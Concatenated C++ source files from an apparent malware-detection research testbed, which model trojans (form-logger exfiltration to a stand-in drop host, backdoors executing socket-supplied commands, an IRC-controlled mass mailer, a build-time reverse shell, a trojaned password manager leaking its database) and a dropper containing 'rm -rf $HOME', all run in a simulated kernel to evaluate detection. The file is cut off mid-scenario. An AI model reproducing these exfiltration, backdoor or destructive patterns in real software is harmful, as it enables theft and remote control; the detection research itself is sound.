        if (*replied)
            return;
        *replied = true;
        c.close();
    };
    k.net().addRemoteClient(addr, attacker);
}

/** A drop server that sends @p payload when connected to. */
void
wireDropServer(Kernel &k, const std::string &host, int port,
               const std::string &payload)
{
    k.net().addHost(host);
    const std::string addr = host + ":" + std::to_string(port);
    RemotePeer server;
    server.name = addr;
    server.onConnect = [payload](RemoteConn &c) { c.send(payload); };
    k.net().addRemoteServer(addr, server);
}

/** Common backdoor skeleton: bind hard-coded addr, accept, read a
 * command, exec it (name straight off the socket). */
void
emitBackdoor(Gasm &a, const std::string &bind_sym)
{
    a.sockCreate();
    a.mov(Reg::Ebp, Reg::Eax);
    a.leaSym(Reg::Edx, bind_sym);
    a.sockBind(Reg::Ebp, Reg::Edx);
    a.sockListen(Reg::Ebp);
    a.sockAccept(Reg::Ebp);
    a.mov(Reg::Ebp, Reg::Eax);
    a.leaSym(Reg::Edx, "cmdbuf");
    a.sockRecv(Reg::Ebp, Reg::Edx, 63);
    a.leaSym(Reg::Ebx, "cmdbuf");
    a.execveReg(Reg::Ebx);
}

} // namespace

PatternRow
derivePatterns(const Scenario &scenario, const ScenarioResult &result)
{
    PatternRow row;
    row.noUserIntervention =
        result.flagged && scenario.argv.size() <= 1 &&
        scenario.stdinData.empty();
    row.remotelyDirected =
        result.report.transcript.find("a server with the address") !=
            std::string::npos ||
        result.report.transcript.find("originated from a socket") !=
            std::string::npos ||
        [&] {
            for (const auto &w : result.report.warnings)
                if (w.rule == "check_execve" &&
                    w.severity == secpert::Severity::High)
                    return true;
            return false;
        }();
    row.hardcodedResources = result.hardcodedResources;
    row.degradingPerformance =
        result.degradedPerformance || result.heapGrowth > 0x400000;
    return row;
}

std::vector<CharacterizedExploit>
characterizationModels()
{
    std::vector<CharacterizedExploit> out;

    //
    // 1. PWSteal.Tarno.Q — logs form input, ships it to a fixed URL.
    //
    {
        Gasm a("/models/pwsteal_tarno");
        a.dataString("logname", "websecrets.dat");
        a.dataString("dropaddr", "drop.tarno.example:80");
        a.dataString("forms", "captured_forms.dat");
        a.dataSpace("keys", 64);
        a.dataSpace("cmdbuf", 64);
        a.label("main");
        a.entry("main");
        // The browser-helper hook hands over captured form input
        // (the watched-page keystroke log).
        a.openSym("forms", GO_RDONLY);
        a.mov(Reg::Esi, Reg::Eax);
        a.readFd(Reg::Esi, "keys", 63);
        a.mov(Reg::Ebp, Reg::Eax);
        a.closeFd(Reg::Esi);
        a.creatSym("logname");
        a.mov(Reg::Esi, Reg::Eax);
        a.mov(Reg::Ebx, Reg::Esi);
        a.leaSym(Reg::Ecx, "keys");
        a.mov(Reg::Edx, Reg::Ebp);
        a.sysc(NR_write);
        a.closeFd(Reg::Esi);
        // Periodically ship the log to the fixed URL.
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "dropaddr");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Eax, "logname");
        a.openReg(Reg::Eax, GO_RDONLY);
        a.mov(Reg::Esi, Reg::Eax);
        a.readFd(Reg::Esi, "keys", 63);
        a.mov(Reg::Edx, Reg::Eax);
        a.leaSym(Reg::Ecx, "keys");
        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
        a.exit(0);
        auto image = a.build();

        CharacterizedExploit ce;
        ce.scenario.id = "PWSteal.Tarno.Q";
        ce.scenario.description = "form logger with fixed drop URL";
        ce.scenario.path = image->path;
        ce.scenario.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("captured_forms.dat",
                            "bank.example user=alice pass=hunter2\n");
            wireDropServer(k, "drop.tarno.example", 80, "");
        };
        ce.scenario.expectMalicious = true;
        // Keystrokes arrive via the browser, not the command line:
        // the model leaves stdin empty (captures nothing typed) but
        // still logs the watched-page markers.
        ce.expected = {true, false, true, false};
        out.push_back(std::move(ce));
    }

    //
    // 2. Trojan.Lodeight.A — downloads and runs a file, opens a
    // backdoor on TCP 1084.
    //
    {
        Gasm a("/models/trojan_lodeight");
        a.dataString("dlsite", "update.lodeight.example:80");
        a.dataString("dropname", "beagle.exe");
        a.dataString("backdoor", "LocalHost:1084");
        a.dataSpace("payload", 64);
        a.dataSpace("cmdbuf", 64);
        a.label("main");
        a.entry("main");
        // Download the remote file and store it.
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "dlsite");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Edx, "payload");
        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
        a.mov(Reg::Edi, Reg::Eax);
        a.creatSym("dropname");
        a.mov(Reg::Esi, Reg::Eax);
        a.mov(Reg::Ebx, Reg::Esi);
        a.leaSym(Reg::Ecx, "payload");
        a.mov(Reg::Edx, Reg::Edi);
        a.sysc(NR_write);
        a.closeFd(Reg::Esi);
        // Open the backdoor and take one command.
        emitBackdoor(a, "backdoor");
        a.exit(0);
        auto image = a.build();

        CharacterizedExploit ce;
        ce.scenario.id = "Trojan.Lodeight.A";
        ce.scenario.description = "downloader plus TCP 1084 backdoor";
        ce.scenario.path = image->path;
        ce.scenario.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            wireDropServer(k, "update.lodeight.example", 80,
                           "MZ-beagle-worm-bytes");
            wireBackdoorAttacker(k, "LocalHost:1084", "/bin/restart");
        };
        ce.scenario.expectMalicious = true;
        ce.expected = {true, true, true, false};
        out.push_back(std::move(ce));
    }

    //
    // 3. W32.Mytob.J@mm — copies itself to the system folder, mails
    // itself, IRC-controlled backdoor.
    //
    {
        Gasm a("/models/w32_mytob");
        a.dataString("self_copy", "C:/WINDOWS/system32/mytob.exe");
        a.dataString("self_bytes", "MZ-mytob-worm-image-bytes");
        a.dataString("smtp", "mail.victim.example:25");
        a.dataString("irc", "irc.evilnet.example:6667");
        a.dataSpace("cmdbuf", 64);
        a.label("main");
        a.entry("main");
        // Copy itself into the system folder.
        a.creatSym("self_copy");
        a.mov(Reg::Esi, Reg::Eax);
        a.writeFd(Reg::Esi, "self_bytes", 25);
        a.closeFd(Reg::Esi);
        // Mail itself.
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "smtp");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Ecx, "self_bytes");
        a.movi(Reg::Edx, 25);
        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
        // Join the IRC channel and obey one command.
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "irc");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Edx, "cmdbuf");
        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
        a.leaSym(Reg::Ebx, "cmdbuf");
        a.execveReg(Reg::Ebx);
        a.exit(0);
        auto image = a.build();

        CharacterizedExploit ce;
        ce.scenario.id = "W32.Mytob.J@mm";
        ce.scenario.description = "mass mailer with IRC backdoor";
        ce.scenario.path = image->path;
        ce.scenario.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            wireDropServer(k, "mail.victim.example", 25, "");
            wireDropServer(k, "irc.evilnet.example", 6667,
                           "/bin/download_and_run");
        };
        ce.scenario.expectMalicious = true;
        ce.expected = {true, true, true, false};
        out.push_back(std::move(ce));
    }

    //
    // 4. Trojan.Vundo — adware that degrades the machine by eating
    // virtual memory while showing pop-ups.
    //
    {
        Gasm a("/models/trojan_vundo");
        a.dataString("ad", "!!! CONGRATULATIONS, YOU WON !!!\n");
        a.dataString("dll", "C:/WINDOWS/system32/vundo.dll");
        a.dataString("dlsite", "63.246.131.30:80");
        a.dataSpace("payload", 64);
        a.label("main");
        a.entry("main");
        // Download the adware component, save it.
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "dlsite");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Edx, "payload");
        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
        a.mov(Reg::Edi, Reg::Eax);
        a.creatSym("dll");
        a.mov(Reg::Esi, Reg::Eax);
        a.mov(Reg::Ebx, Reg::Esi);
        a.leaSym(Reg::Ecx, "payload");
        a.mov(Reg::Edx, Reg::Edi);
        a.sysc(NR_write);
        a.closeFd(Reg::Esi);
        // Pop-ups.
        a.writeSym(1, "ad", 33);
        // Eat virtual memory: grow brk by 16 MB.
        a.movi(Reg::Ebp, 0);
        a.label("eat");
        a.movi(Reg::Ebx, 0);
        a.sysc(NR_brk);                 // current brk
        a.mov(Reg::Ebx, Reg::Eax);
        a.movi(Reg::Ecx, 0x100000);
        a.add(Reg::Ebx, Reg::Ecx);
        a.sysc(NR_brk);
        a.addi(Reg::Ebp, 1);
        a.cmpi(Reg::Ebp, 16);
        a.jl("eat");
        a.exit(0);
        auto image = a.build();

        CharacterizedExploit ce;
        ce.scenario.id = "Trojan.Vundo";
        ce.scenario.description = "adware degrading virtual memory";
        ce.scenario.path = image->path;
        ce.scenario.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            wireDropServer(k, "63.246.131.30", 80,
                           "vundo-adware-component");
        };
        ce.scenario.expectMalicious = true;
        ce.expected = {true, false, true, true};
        out.push_back(std::move(ce));
    }

    //
    // 5. Windows-update.com — fake update site dropping a
    // configuration-driven trojan chain.
    //
    {
        Gasm a("/models/windows_update_com");
        a.dataString("fake_site", "windows-update.example:80");
        a.dataString("cfg_site", "lol.ifud.cc:80");
        a.dataString("dropname", "wupdate.exe");
        a.dataSpace("payload", 64);
        a.dataSpace("cfg", 32);
        a.label("main");
        a.entry("main");
        // Stage 1: the fake site serves an executable.
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "fake_site");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Edx, "payload");
        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
        a.mov(Reg::Edi, Reg::Eax);
        a.creatSym("dropname");
        a.mov(Reg::Esi, Reg::Eax);
        a.mov(Reg::Ebx, Reg::Esi);
        a.leaSym(Reg::Ecx, "payload");
        a.mov(Reg::Edx, Reg::Edi);
        a.sysc(NR_write);
        a.closeFd(Reg::Esi);
        // Stage 2: configuration from the predefined site.
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "cfg_site");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Edx, "cfg");
        a.sockRecv(Reg::Ebp, Reg::Edx, 31);
        // Stage 3: run the configured trojan (name from the net).
        a.leaSym(Reg::Ebx, "cfg");
        a.execveReg(Reg::Ebx);
        a.exit(0);
        auto image = a.build();

        CharacterizedExploit ce;
        ce.scenario.id = "Windows-update.com";
        ce.scenario.description = "fake update site trojan chain";
        ce.scenario.path = image->path;
        ce.scenario.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            wireDropServer(k, "windows-update.example", 80,
                           "MZ-dropper-bytes");
            wireDropServer(k, "lol.ifud.cc", 80, "/trojans/custom7");
        };
        ce.scenario.expectMalicious = true;
        ce.expected = {true, true, true, false};
        out.push_back(std::move(ce));
    }

    //
    // 6. W32/MyDoom.B — registry persistence plus a TCP backdoor.
    //
    {
        Gasm a("/models/w32_mydoom");
        a.dataString("registry", "C:/WINDOWS/registry");
        a.dataString("runkey",
                     "HKLM/Run/ctfmon = C:/WINDOWS/ctfmon.dll\n");
        a.dataString("backdoor", "LocalHost:3127");
        a.dataSpace("cmdbuf", 64);
        a.label("main");
        a.entry("main");
        a.openSym("registry", GO_CREAT | GO_WRONLY);
        a.mov(Reg::Esi, Reg::Eax);
        a.writeFd(Reg::Esi, "runkey", 41);
        a.closeFd(Reg::Esi);
        emitBackdoor(a, "backdoor");
        a.exit(0);
        auto image = a.build();

        CharacterizedExploit ce;
        ce.scenario.id = "W32/MyDoom.B";
        ce.scenario.description = "registry persistence + backdoor";
        ce.scenario.path = image->path;
        ce.scenario.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            wireBackdoorAttacker(k, "LocalHost:3127", "/bin/proxy");
        };
        ce.scenario.expectMalicious = true;
        ce.expected = {true, true, true, false};
        out.push_back(std::move(ce));
    }

    //
    // 7. Phatbot — remote-controlled bot: sysinfo (CPUID!) and
    // CD-key theft on command.
    //
    {
        Gasm a("/models/phatbot");
        a.dataString("p2p", "LocalHost:4387");
        a.dataString("cdkeys", "C:/games/cdkeys.txt");
        a.dataSpace("cmdbuf", 64);
        a.dataSpace("sysinfo", 16);
        a.dataSpace("keys", 64);
        a.dataSpace("conn_slot", 4);
        a.label("main");
        a.entry("main");
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "p2p");
        a.sockBind(Reg::Ebp, Reg::Edx);
        a.sockListen(Reg::Ebp);
        a.sockAccept(Reg::Ebp);
        a.leaSym(Reg::Edi, "conn_slot");
        a.store(Reg::Edi, 0, Reg::Eax);
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "cmdbuf");
        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
        // Command "sysinfo": CPUID -> socket.
        a.cpuid();
        a.leaSym(Reg::Esi, "sysinfo");
        a.store(Reg::Esi, 0, Reg::Eax);
        a.store(Reg::Esi, 4, Reg::Ebx);
        a.store(Reg::Esi, 8, Reg::Ecx);
        a.store(Reg::Esi, 12, Reg::Edx);
        a.leaSym(Reg::Edi, "conn_slot");
        a.load(Reg::Ebp, Reg::Edi, 0);
        a.leaSym(Reg::Ecx, "sysinfo");
        a.movi(Reg::Edx, 16);
        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
        // Command "steal cdkeys": hard-coded file -> socket.
        a.openSym("cdkeys", GO_RDONLY);
        a.mov(Reg::Esi, Reg::Eax);
        a.readFd(Reg::Esi, "keys", 63);
        a.mov(Reg::Edx, Reg::Eax);
        a.leaSym(Reg::Edi, "conn_slot");
        a.load(Reg::Ebp, Reg::Edi, 0);
        a.leaSym(Reg::Ecx, "keys");
        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
        a.exit(0);
        auto image = a.build();

        CharacterizedExploit ce;
        ce.scenario.id = "Phatbot";
        ce.scenario.description = "remote-commanded bot";
        ce.scenario.path = image->path;
        ce.scenario.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("C:/games/cdkeys.txt",
                            "GAME-1234-KEY-5678\n");
            wireBackdoorAttacker(k, "LocalHost:4387", "sysinfo\n");
        };
        ce.scenario.expectMalicious = true;
        ce.expected = {true, true, true, false};
        out.push_back(std::move(ce));
    }

    //
    // 8. Sendmail distribution trojan — the build forks a process
    // that hands a shell to a fixed server on port 6667.
    //
    {
        Gasm a("/models/sendmail_trojan");
        a.dataString("home", "aol.bagabox.example:6667");
        a.dataString("built", "sendmail built.\n");
        a.dataSpace("cmdbuf", 64);
        a.label("main");
        a.entry("main");
        a.fork();
        a.cmpi(Reg::Eax, 0);
        a.jz("payload");
        // The "build" itself proceeds normally.
        a.writeSym(1, "built", 16);
        a.exit(0);
        a.label("payload");
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "home");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Edx, "cmdbuf");
        a.sockRecv(Reg::Ebp, Reg::Edx, 63);
        a.leaSym(Reg::Ebx, "cmdbuf");
        a.execveReg(Reg::Ebx);          // intruder's shell command
        a.exit(0);
        auto image = a.build();

        CharacterizedExploit ce;
        ce.scenario.id = "Sendmail Trojan";
        ce.scenario.description = "build-time reverse shell";
        ce.scenario.path = image->path;
        ce.scenario.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            wireDropServer(k, "aol.bagabox.example", 6667, "/bin/id");
        };
        ce.scenario.expectMalicious = true;
        ce.expected = {true, true, true, false};
        out.push_back(std::move(ce));
    }

    //
    // 9. TCP Wrappers trojan — backdoor for source port 421 plus a
    // build-time identification email (whoami / uname -a).
    //
    {
        Gasm a("/models/tcp_wrappers");
        a.dataString("mailhost", "mail.attacker.example:25");
        a.dataString("backdoor", "LocalHost:421");
        a.dataSpace("ident", 16);
        a.dataSpace("cmdbuf", 64);
        a.label("main");
        a.entry("main");
        // Build-time: identify the host (whoami / uname via the
        // hardware-id model) and mail it out.
        a.cpuid();
        a.leaSym(Reg::Esi, "ident");
        a.store(Reg::Esi, 0, Reg::Eax);
        a.store(Reg::Esi, 4, Reg::Ebx);
        a.store(Reg::Esi, 8, Reg::Ecx);
        a.store(Reg::Esi, 12, Reg::Edx);
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "mailhost");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Ecx, "ident");
        a.movi(Reg::Edx, 16);
        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
        // Run time: the rarely used port-421 root shell.
        emitBackdoor(a, "backdoor");
        a.exit(0);
        auto image = a.build();

        CharacterizedExploit ce;
        ce.scenario.id = "TCP Wrappers Trojan";
        ce.scenario.description = "port-421 backdoor + ident email";
        ce.scenario.path = image->path;
        ce.scenario.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            wireDropServer(k, "mail.attacker.example", 25, "");
            wireBackdoorAttacker(k, "LocalHost:421", "/bin/sh421");
        };
        ce.scenario.expectMalicious = true;
        ce.expected = {true, true, true, false};
        out.push_back(std::move(ce));
    }

    return out;
}

} // namespace hth::workloads
