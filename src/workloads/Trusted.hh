/**
 * @file
 * Trusted-program scenarios (paper §8.2, Table 7): the
 * false-positive evaluation over everyday utilities.
 */

#ifndef HTH_WORKLOADS_TRUSTED_HH
#define HTH_WORKLOADS_TRUSTED_HH

#include <vector>

#include "workloads/Scenario.hh"

namespace hth::workloads
{

/**
 * Table 7 scenarios: ls, column, make (three modes), g++, awk,
 * pico, tail, diff, wc, bc, xeyes.
 *
 * expectMalicious reflects the *intended* classification (clean
 * unless the paper documents an expected warning, e.g. make clean
 * and g++ raise Low because they exec hard-coded helper programs).
 */
std::vector<Scenario> trustedProgramScenarios();

} // namespace hth::workloads

#endif // HTH_WORKLOADS_TRUSTED_HH
