#include "workloads/Scenario.hh"

#include "support/Logging.hh"

namespace hth::workloads
{

ScenarioResult
runScenario(const Scenario &scenario, const HthOptions &options)
{
    HthOptions effective = options;
    if (scenario.disableTaint)
        effective.taintTracking = false;
    Hth hth(effective);
    if (scenario.setup)
        scenario.setup(hth.kernel());

    std::vector<std::string> argv = scenario.argv;
    if (argv.empty())
        argv.push_back(scenario.path);

    ScenarioResult result;
    result.report = hth.monitor(scenario.path, argv, scenario.env,
                                scenario.stdinData);

    result.flagged = result.report.flagged();
    result.correct = (result.flagged == scenario.expectMalicious) &&
                     (!scenario.expectMalicious ||
                      result.report.flagged(scenario.expectSeverity));

    // Table 1 characterisation signals.
    const os::KernelStats &ks = hth.kernel().stats();
    result.usedStdin = ks.stdinBytesRead > 0;
    result.remotelyDirected = ks.socketBytesRead > 0;
    result.degradedPerformance =
        result.report.countByRule("resource_abuse_count") > 0 ||
        result.report.countByRule("resource_abuse_rate") > 0 ||
        result.report.countByRule("resource_abuse_memory") > 0;
    for (const auto &p : hth.kernel().processes())
        result.heapGrowth =
            std::max<uint64_t>(result.heapGrowth,
                               p->brk - vm::Machine::HEAP_BASE);

    // A hard-coded resource: any resource whose name's provenance
    // includes an untrusted BINARY source.
    const taint::ResourceTable &resources = hth.kernel().resources();
    taint::TagStore &tags = hth.kernel().tagStore();
    for (taint::ResourceId id = 0; id < resources.size(); ++id) {
        const taint::Resource &res = resources.get(id);
        for (const taint::Tag &tag : tags.tags(res.nameOrigin)) {
            if (tag.type != taint::SourceType::Binary)
                continue;
            const std::string &image =
                tag.res == taint::NO_RESOURCE
                    ? res.name
                    : resources.get(tag.res).name;
            bool trusted = false;
            for (const auto &pattern :
                 options.policy.trustedBinaries)
                trusted = trusted ||
                          image.find(pattern) != std::string::npos;
            if (!trusted)
                result.hardcodedResources = true;
        }
    }
    return result;
}

ScenarioResult
runScenarioSeeded(const Scenario &scenario, uint32_t seed,
                  const HthOptions &options)
{
    Scenario seeded = scenario;
    if (seeded.reseed)
        seeded.reseed(seeded, seed);
    return runScenario(seeded, options);
}

anomaly::BaselineProfile
recordScenarioBaseline(const Scenario &scenario, uint32_t runs,
                       const HthOptions &options)
{
    fatalIf(runs == 0, "baseline: need at least one run for '",
            scenario.id, "'");
    std::vector<uint32_t> seeds;
    seeds.reserve(runs);
    for (uint32_t s = 1; s <= runs; ++s)
        seeds.push_back(s);
    return anomaly::profileBaseline(
        scenario.id, seeds, [&](uint32_t seed) {
            return runScenarioSeeded(scenario, seed, options)
                .report.telemetry;
        });
}

fleet::FleetJob
toFleetJob(const Scenario &scenario, const HthOptions &options,
           const std::string &trace_path)
{
    fleet::FleetJob job;
    job.id = scenario.id;
    job.options = options;
    if (scenario.disableTaint)
        job.options.taintTracking = false;
    job.setup = scenario.setup;
    job.path = scenario.path;
    job.argv = scenario.argv;
    job.env = scenario.env;
    job.stdinData = scenario.stdinData;
    job.tracePath = trace_path;
    return job;
}

} // namespace hth::workloads
