/**
 * @file
 * Macro-benchmark scenarios (paper §8.4): real applications with
 * and without implanted malicious code — pwsafe (password manager
 * ± exfiltration), the mw2.2.1 Merriam-Webster perl script
 * (± a fork flood), and Ultra Tic-Tac-Toe (± a drop-and-execute
 * trojan).
 */

#ifndef HTH_WORKLOADS_MACRO_HH
#define HTH_WORKLOADS_MACRO_HH

#include <vector>

#include "workloads/Scenario.hh"

namespace hth::workloads
{

/** The six §8.4 runs: each application clean and trojaned. */
std::vector<Scenario> macroScenarios();

} // namespace hth::workloads

#endif // HTH_WORKLOADS_MACRO_HH
