#include "workloads/Macro.hh"

#include "workloads/GuestLib.hh"

namespace hth::workloads
{

using namespace os;
using secpert::Severity;

namespace
{

/**
 * pwsafe (§8.4.1): a password database manager. --exportdb prints
 * the database to stdout. The trojaned variant additionally resolves
 * the hard-coded host "duero" with gethostbyname (exercising the
 * §7.2 short-circuit) and exfiltrates the database to duero:40400.
 */
std::shared_ptr<const vm::Image>
makePwsafe(bool trojaned)
{
    Gasm a(trojaned ? "/apps/pwsafe-mod/pwsafe" : "/apps/pwsafe");
    a.dataString("dbfile", "/home/user/.pwsafe.dat");
    a.dataString("host", "duero");
    a.dataString("beacon", "pwsafe-v0.2.0-beacon");
    a.dataSpace("db", 128);
    a.dataSpace("addrbuf", 48);
    a.label("main");
    a.entry("main");

    // Read the database and print it (--exportdb).
    a.openSym("dbfile", GO_RDONLY);
    a.mov(Reg::Ebp, Reg::Eax);
    a.readFd(Reg::Ebp, "db", 128);
    a.mov(Reg::Edi, Reg::Eax);              // db length
    a.closeFd(Reg::Ebp);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "db");
    a.mov(Reg::Edx, Reg::Edi);
    a.sysc(NR_write);

    if (trojaned) {
        // Resolve the hard-coded drop host. With Harrier's
        // short-circuit the resolved address keeps the hard-coded
        // name's provenance; without it the address carries the
        // resolver database's provenance instead (the §7.2 failure
        // mode the ablation bench demonstrates).
        a.libc1("gethostbyname", "host");
        a.leaSym(Reg::Edx, "addrbuf");
        a.inlineStrcpy(Reg::Edx, Reg::Eax);

        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "addrbuf");
        a.sockConnect(Reg::Ebp, Reg::Edx);

        // Exfiltrate the database, then a hard-coded beacon.
        a.leaSym(Reg::Ecx, "db");
        a.movi(Reg::Edx, 64);
        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
        a.leaSym(Reg::Ecx, "beacon");
        a.movi(Reg::Edx, 20);
        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    }
    a.exit(0);
    return a.build();
}

/**
 * mw2.2.1 (§8.4.2): the Merriam-Webster lookup perl script. HTH
 * monitors /usr/bin/perl running the script; the modified script
 * forks more than 20 children.
 */
std::shared_ptr<const vm::Image>
makePerlMw(bool fork_flood)
{
    Gasm a("/usr/bin/perl");
    a.dataString("website", "www.m-w.com:80");
    a.dataString("query", "GET /dictionary/harrier HTTP/1.0\r\n\r\n");
    a.dataSpace("reply", 128);
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Edi, "argv_slot");
    a.store(Reg::Edi, 0, Reg::Ebx);

    // Interpret the script named in argv[1] (read its text).
    a.loadArgv(1);
    a.openReg(Reg::Eax, GO_RDONLY);
    a.mov(Reg::Ebp, Reg::Eax);
    a.readFd(Reg::Ebp, "reply", 64);
    a.closeFd(Reg::Ebp);

    // Look the word up at the hard-coded site, print the answer.
    a.sockCreate();
    a.mov(Reg::Ebp, Reg::Eax);
    a.leaSym(Reg::Edx, "website");
    a.sockConnect(Reg::Ebp, Reg::Edx);
    a.leaSym(Reg::Ecx, "query");
    a.movi(Reg::Edx, 37);
    a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    a.leaSym(Reg::Edx, "reply");
    a.sockRecv(Reg::Ebp, Reg::Edx, 127);
    a.mov(Reg::Edx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "reply");
    a.sysc(NR_write);

    if (fork_flood) {
        // The modified script forks more than 20 children.
        a.movi(Reg::Ebp, 0);
        a.label("fork_loop");
        a.fork();
        a.cmpi(Reg::Eax, 0);
        a.jz("child");
        a.addi(Reg::Ebp, 1);
        a.cmpi(Reg::Ebp, 22);
        a.jl("fork_loop");
    }
    a.exit(0);
    if (fork_flood) {
        a.label("child");
        a.sleepTicks(300);
        a.exit(0);
    }
    return a.build();
}

/**
 * Ultra Tic-Tac-Toe (§8.4.3): a console game. The trojaned variant
 * drops ./malicious_code.txt (hard-coded name and contents), chmods
 * it executable and execs it — the exec fails because the file is
 * not a loadable image, exactly as in the paper's footnote.
 */
std::shared_ptr<const vm::Image>
makeTtt(bool trojaned)
{
    Gasm a(trojaned ? "/apps/uttt-mod/ttt" : "/apps/uttt/ttt");
    a.dataString("board", " X | O \n---+---\n   |   \n");
    a.dataString("dropname", "./malicious_code.txt");
    a.dataString("dropdata", "#!/bin/sh\nrm -rf $HOME  # trojan\n");
    a.dataSpace("move", 8);
    a.label("main");
    a.entry("main");

    // One round: read the user's move, print the board.
    a.readSym(0, "move", 7);
    a.writeSym(1, "board", 24);

    if (trojaned) {
        a.creatSym("dropname");
        a.mov(Reg::Ebp, Reg::Eax);
        a.writeFd(Reg::Ebp, "dropdata", 33);
        a.closeFd(Reg::Ebp);
        a.chmodSym("dropname");
        a.execveSym("dropname");    // fails: not an executable image
    }
    a.exit(0);
    return a.build();
}

} // namespace

std::vector<Scenario>
macroScenarios()
{
    std::vector<Scenario> out;

    auto setup_net = [](Kernel &k) {
        // The drop box listens on duero's bare address (the guest
        // connects straight to the gethostbyname result).
        std::string duero = k.net().addHost("duero");
        RemotePeer drop;
        drop.name = "duero:40400";
        k.net().addRemoteServer(duero, drop);
        k.net().addHost("www.m-w.com");
        RemotePeer mw;
        mw.name = "www.m-w.com:80";
        mw.onConnect = [](RemoteConn &) {};
        mw.onData = [](RemoteConn &c, const std::string &) {
            c.send("HTTP/1.0 200 OK\r\n\r\nharrier: a slender "
                   "long-winged hawk\r\n");
        };
        k.net().addRemoteServer("www.m-w.com:80", mw);
    };

    {
        auto image = makePwsafe(false);
        Scenario s;
        s.id = "pwsafe --exportdb";
        s.description = "clean password manager export";
        s.path = image->path;
        s.argv = {image->path, "--exportdb"};
        s.setup = [image, setup_net](Kernel &k) {
            setup_net(k);
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("/home/user/.pwsafe.dat",
                            "bank.example  alice  hunter2\n"
                            "mail.example  alice  sw0rdf1sh\n");
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makePwsafe(true);
        Scenario s;
        s.id = "pwsafe (trojaned)";
        s.description = "password manager exfiltrating its database";
        s.path = image->path;
        s.argv = {image->path, "--exportdb"};
        s.setup = [image, setup_net](Kernel &k) {
            setup_net(k);
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("/home/user/.pwsafe.dat",
                            "bank.example  alice  hunter2\n"
                            "mail.example  alice  sw0rdf1sh\n");
        };
        s.expectMalicious = true;
        s.expectSeverity = Severity::Low;   // at least the beacon
        out.push_back(std::move(s));
    }

    {
        auto image = makePerlMw(false);
        Scenario s;
        s.id = "mw2.2.1";
        s.description = "perl word lookup at m-w.com";
        s.path = image->path;
        s.argv = {image->path, "mw2.2.1", "harrier"};
        s.disableTaint = true;      // as in the paper (§8.4.2)
        s.setup = [image, setup_net](Kernel &k) {
            setup_net(k);
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("mw2.2.1",
                            "#!/usr/bin/perl\n# merriam-webster "
                            "lookup script\n");
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makePerlMw(true);
        Scenario s;
        s.id = "mw2.2.1 (fork flood)";
        s.description = "modified script forking 22 children";
        s.path = image->path;
        s.argv = {image->path, "mw2.2.1", "harrier"};
        s.disableTaint = true;      // as in the paper (§8.4.2)
        s.setup = [image, setup_net](Kernel &k) {
            setup_net(k);
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("mw2.2.1",
                            "#!/usr/bin/perl\n# modified: forks\n");
        };
        s.expectMalicious = true;
        s.expectSeverity = Severity::Medium;
        out.push_back(std::move(s));
    }

    {
        auto image = makeTtt(false);
        Scenario s;
        s.id = "ttt";
